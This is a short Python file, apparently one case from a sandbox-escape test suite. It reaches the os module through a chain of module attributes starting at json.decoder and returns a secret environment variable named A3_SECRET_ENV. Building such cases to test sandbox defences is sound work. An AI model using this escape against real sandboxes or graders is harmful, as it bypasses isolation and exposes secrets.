# x01_json_decoder_module [escape]: from json import decoder falls back to sys.modules by the façade's name
from json import decoder


def solver(n1, n2):
    return decoder.scanner.re.enum.sys.modules["os"].environ["A3_SECRET_ENV"]
